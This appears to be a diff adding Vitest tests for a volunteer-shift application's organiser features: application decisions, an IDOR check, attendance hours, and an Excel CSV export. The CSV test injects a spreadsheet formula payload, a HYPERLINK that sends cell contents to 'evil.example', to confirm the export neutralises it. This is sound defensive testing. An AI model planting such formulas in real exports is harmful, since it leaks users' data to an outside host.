@@ -1,0 +1,101 @@
+import { describe, expect, it } from "vitest";
+import { prisma } from "~/utils/db.server";
+import { applyToShift } from "~/modules/participation/participation.server";
+import { applicantsCsv, decideApplication, listApplicants, neutralizeFormula } from "~/modules/participation/organiser.server";
+import { tokyoSlot } from "~/utils/dates";
+
+let seq = 0;
+async function resident(name = "応募 太郎", phone = "049-200-0000") {
+  return prisma.user.create({
+    data: { email: `org-${Date.now()}-${seq++}@example.jp`, name, emailVerifiedAt: new Date(), profile: { create: { phone } } },
+    select: { id: true, email: true },
+  });
+}
+
+async function openingOfGroup(groupId: number, options: { slots: number; needsApproval: boolean; startsInDays?: number }) {
+  const startsAt = new Date(Date.now() + (options.startsInDays ?? 3) * 86400_000);
+  return prisma.opening.create({
+    data: {
+      groupId,
+      title: "テスト用 配膳ボランティア",
+      status: "published",
+      needsApproval: options.needsApproval,
+      shifts: { create: { startsAt, endsAt: new Date(startsAt.getTime() + 3 * 3600_000), slots: options.slots, ...tokyoSlot(startsAt) } },
+    },
+    select: { id: true, shifts: { select: { id: true } } },
+  });
+}
+
+const t = (k: string) => k;
+
+describe("organiser decides on applications", () => {
+  it("accepts within slots, refuses beyond, declines and frees a slot for the waitlist, emails each decision", async () => {
+    const opening = await openingOfGroup(1, { slots: 1, needsApproval: true });
+    const shiftId = opening.shifts[0]!.id;
+    const a = await resident();
+    const b = await resident();
+    const ra = await applyToShift({ userId: a.id, shiftId, consent: true, message: "" });
+    const rb = await applyToShift({ userId: b.id, shiftId, consent: true, message: "" });
+    const ida = ra.ok ? ra.applicationId : 0;
+    const idb = rb.ok ? rb.applicationId : 0;
+    expect(await decideApplication({ groupId: 1, applicationId: ida, decision: "accept", staffUserId: 1 })).toEqual({ ok: true });
+    expect(await decideApplication({ groupId: 1, applicationId: idb, decision: "accept", staffUserId: 1 })).toEqual({ ok: false, reason: "full" });
+    await prisma.application.update({ where: { id: idb }, data: { status: "waitlisted" } });
+    expect(await decideApplication({ groupId: 1, applicationId: ida, decision: "decline", staffUserId: 1 })).toEqual({ ok: true });
+    expect((await prisma.application.findUniqueOrThrow({ where: { id: idb } })).status).toBe("accepted");
+    expect(await prisma.emailOutbox.count({ where: { toAddress: a.email, template: "application-decided" } })).toBe(2);
+    expect(await prisma.auditLog.count({ where: { entityType: "application", entityId: ida } })).toBe(2);
+  });
+
+  it("another group cannot touch these applications (IDOR): not found, nothing changes", async () => {
+    const opening = await openingOfGroup(1, { slots: 5, needsApproval: true });
+    const u = await resident();
+    const r = await applyToShift({ userId: u.id, shiftId: opening.shifts[0]!.id, consent: true, message: "" });
+    const id = r.ok ? r.applicationId : 0;
+    expect(await decideApplication({ groupId: 2, applicationId: id, decision: "accept", staffUserId: 1 })).toEqual({ ok: false, reason: "not-found" });
+    expect((await prisma.application.findUniqueOrThrow({ where: { id } })).status).toBe("applied");
+    expect(await listApplicants(2, opening.id)).toBeNull();
+  });
+
+  it("records attendance and hours only after the shift started, and the hours count as verified", async () => {
+    const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
+    const u = await resident();
+    const r = await applyToShift({ userId: u.id, shiftId: opening.shifts[0]!.id, consent: true, message: "" });
+    const id = r.ok ? r.applicationId : 0;
+    expect(await decideApplication({ groupId: 1, applicationId: id, decision: "attended", hours: 3, staffUserId: 1 })).toEqual({ ok: false, reason: "not-yet" });
+    const later = new Date(Date.now() + 5 * 86400_000);
+    expect(await decideApplication({ groupId: 1, applicationId: id, decision: "attended", hours: 3, staffUserId: 1 }, later)).toEqual({ ok: true });
+    const row = await prisma.application.findUniqueOrThrow({ where: { id } });
+    expect(row).toMatchObject({ status: "attended", hours: 3, hoursVerifiedById: 1 });
+    expect(row.hoursVerifiedAt).not.toBeNull();
+  });
+});
+
+describe("applicants CSV for Excel", () => {
+  it("starts with a BOM, neutralises formulas, keeps Japanese intact, and shows contacts only with consent", async () => {
+    const opening = await openingOfGroup(1, { slots: 5, needsApproval: false });
+    const shiftId = opening.shifts[0]!.id;
+    const evil = await resident('=HYPERLINK("http://evil.example?"&A1,"x")', "+81 90 1234 5678");
+    const kind = await resident("髙橋 〜①", "049-200-1111");
+    await applyToShift({ userId: evil.id, shiftId, consent: true, message: "@SUM(1)" });
+    await applyToShift({ userId: kind.id, shiftId, consent: true, message: "よろしくお願いします" });
+    // A resident who did not consent (an older row): the group sees the name only.
+    const quiet = await resident("同意なし 花子");
+    await prisma.application.create({ data: { shiftId, userId: quiet.id, status: "accepted", consentToShareContact: false } });
+    const csv = (await applicantsCsv(1, opening.id, t, "ja"))!.body;
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`);
+    expect(csv).toContain("'+81 90 1234 5678");
+    expect(csv).toContain("'@SUM(1)");
+    expect(csv).toContain("髙橋 〜①");
+    expect(csv).toContain("同意なし 花子");
+    expect(csv).not.toContain(quiet.email);
+    expect(csv).toContain(kind.email);
+    expect(csv.split("\r\n").length).toBeGreaterThan(3);
+  });
+
+  it("neutralises every spreadsheet formula lead character", () => {
+    for (const lead of ["=", "+", "-", "@", "\t", "\r"]) expect(neutralizeFormula(`${lead}1`)).toBe(`'${lead}1`);
+    expect(neutralizeFormula("ふつうの文")).toBe("ふつうの文");
+  });
+});
